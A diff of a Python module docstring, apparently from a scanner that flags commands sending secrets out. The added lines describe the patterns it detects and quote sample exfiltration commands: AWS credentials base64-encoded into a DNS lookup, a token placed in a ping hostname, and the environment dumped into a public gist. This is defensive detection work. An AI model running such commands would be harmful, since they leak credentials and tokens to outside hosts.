@@ -14,9 +14,14 @@ together — a send verb, a secret as its object, a destination — and they wei
 * a public key (``.pub``) is never a secret, and a destination that is a secret store (a vault, the
   CI's secrets page) is where secrets belong.
 
-The commands are found from their rare middle (the secret file, the option that uploads it, the command
-substitution) and their tool is then looked for just before it on the same line, rather than trying
-every ``cat`` or ``curl`` of a text for a secret up to 200 characters further on."""
+The commands: a secret file read and piped into a network tool, uploaded with an option, put into a URL
+or a DNS name by command substitution (``nslookup $(cat ~/.aws/credentials | base64).x``) or as a
+variable (``ping $TOKEN.x.example``), copied with ``scp``/``rsync`` to a host, the environment written to
+a file that is then sent (``env > f && gh gist create f``), and a ``git push`` to a host that is neither a
+well-known forge nor allowed by the organization (a self-hosted forge is allowed like an installer host).
+They are found from their rare middle (the secret file, the upload option, the substitution) and their
+tool is then looked for just before it on the same line, rather than trying every ``cat`` or ``curl`` of a
+text for a secret up to 200 characters further on."""
 
 from __future__ import annotations
 
